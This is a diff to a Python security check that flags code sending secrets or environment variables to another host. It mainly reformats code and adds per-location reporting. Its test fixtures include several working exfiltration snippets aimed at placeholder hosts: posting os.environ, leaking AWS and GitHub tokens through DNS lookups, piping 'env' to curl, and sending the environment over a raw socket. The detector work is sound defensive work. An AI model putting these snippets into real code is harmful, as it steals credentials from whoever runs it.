@@ -11,7 +11,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
-from codeguard.checks.malicious._channels import sendings
+from codeguard.checks.malicious._channels import places, sendings
 from codeguard.checks.malicious._labels import words
 from codeguard.checks.malicious._shell import commands
 from codeguard.checks.malicious._when import when
@@ -28,11 +28,20 @@ def find(unit: Unit) -> Iterator[Hit]:
         hidden = bool(sending.has("decoded")) or sending.drop
         if everything or (secrets and (host or hidden)):
             taken = everything or [*secrets, *host]
-            early = {"install": " while the package is installed", "import": " as soon as the module is imported"}.get(when(sending.call, unit), "")
-            yield Hit(sending.call, f"This sends {words(taken)} to {sending.where}{early}: whoever runs it loses the secrets in them")
+            early = {"install": " while the package is installed", "import": " as soon as the module is imported"}.get(
+                when(sending.call, unit), ""
+            )
+            for place in places(sending, unit, *{label.kind for label in taken}):
+                yield Hit(
+                    place,
+                    f"This sends {words(taken)} to {sending.where}{early}: whoever runs it loses the secrets in them",
+                )
     for command in unit.fact(commands):
         if running.ENVIRONMENT_SENT.search(command.text):
-            yield Hit(command.call, "This shell command sends all environment variables to another host: whoever runs it loses the secrets in them")
+            yield Hit(
+                command.call,
+                "This shell command sends all environment variables to another host: whoever runs it loses the secrets in them",
+            )
 
 
 CHECK = Check(
@@ -45,18 +54,41 @@ CHECK = Check(
     find=find,
     fix="Remove the call, and change every secret that was set where it ran.",
     bad=(
-        Bad("import os, json, urllib.request\n\ndef go():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://c.example.invalid/c', data=data)  # finding\n\ngo()\n"),
-        Bad("import os, requests\nkeep = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.get('https://c.example.invalid/', params=keep)  # finding\n"),
-        Bad("import os, socket\nfor n in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'):\n    v = os.getenv(n, '')\n    socket.gethostbyname(f'{v}.c.example.invalid')  # finding\n"),
-        Bad("import os, requests, socket\n\ndef beat(u):\n    requests.post(u, json={'h': socket.gethostname(), 't': os.environ.get('BOT_TOKEN')})  # finding\n"),
+        Bad(
+            "import os, json, urllib.request\n\ndef go():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://c.example.invalid/c', data=data)  # finding\n\ngo()\n"
+        ),
+        Bad(
+            "import os, requests\nkeep = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.get('https://c.example.invalid/', params=keep)  # finding\n"
+        ),
+        Bad(
+            "import os, socket\nfor n in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'):\n    v = os.getenv(n, '')\n    socket.gethostbyname(f'{v}.c.example.invalid')  # finding\n"
+        ),
+        Bad(
+            "import os, requests, socket\n\ndef beat(u):\n    requests.post(u, json={'h': socket.gethostname(), 't': os.environ.get('BOT_TOKEN')})  # finding\n"
+        ),
         Bad("import os\nos.system('env | curl -s -d @- https://c.example.invalid/e')  # finding\n"),
-        Bad("import os, socket\ns = socket.socket()\ns.connect(('192.0.2.9', 80))\ns.sendall(str(os.environ.copy()).encode())  # finding\n"),
+        Bad(
+            "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.9', 80))\ns.sendall(str(os.environ.copy()).encode())  # finding\n"
+        ),
     ),
     good=(
-        Good("import os, requests\n\ndef repos(user):\n    token = os.environ['GITHUB_TOKEN']\n    return requests.get(f'https://api.example.invalid/{user}', headers={'Authorization': f'Bearer {token}'}, timeout=9)\n"),
-        Good("import os, requests\n\ndef login():\n    return requests.post('https://id.example.invalid/token', data={'client_id': os.environ['CLIENT_ID'], 'client_secret': os.environ['CLIENT_SECRET']}, timeout=9)\n"),
-        Good("import os, subprocess\n\ndef build():\n    env = dict(os.environ)\n    env['CI'] = '1'\n    subprocess.run(['make'], env=env, check=True)\n"),
-        Good("import os, requests\n\ndef notify(text):\n    requests.post(os.environ['WEBHOOK_URL'], json={'content': text}, timeout=5)\n"),
+        Good(
+            "import os, requests\n\ndef repos(user):\n    token = os.environ['GITHUB_TOKEN']\n    return requests.get(f'https://api.example.invalid/{user}', headers={'Authorization': f'Bearer {token}'}, timeout=9)\n"
+        ),
+        Good(
+            "import os, requests\n\ndef login():\n    return requests.post('https://id.example.invalid/token', data={'client_id': os.environ['CLIENT_ID'], 'client_secret': os.environ['CLIENT_SECRET']}, timeout=9)\n"
+        ),
+        Good(
+            "import os, subprocess\n\ndef build():\n    env = dict(os.environ)\n    env['CI'] = '1'\n    subprocess.run(['make'], env=env, check=True)\n"
+        ),
+        Good(
+            "import os, requests\n\ndef notify(text):\n    requests.post(os.environ['WEBHOOK_URL'], json={'content': text}, timeout=5)\n"
+        ),
     ),
-    misses=(Miss("import os, requests\nfrom helper import collect\n\nrequests.post('https://c.example.invalid', json=collect(vars(os)))  # finding\n", why="other files, and ways to the environment through `vars(os)`, are not followed"),),
+    misses=(
+        Miss(
+            "import os, requests\nfrom helper import collect\n\nrequests.post('https://c.example.invalid', json=collect(vars(os)))  # finding\n",
+            why="other files, and ways to the environment through `vars(os)`, are not followed",
+        ),
+    ),
 )
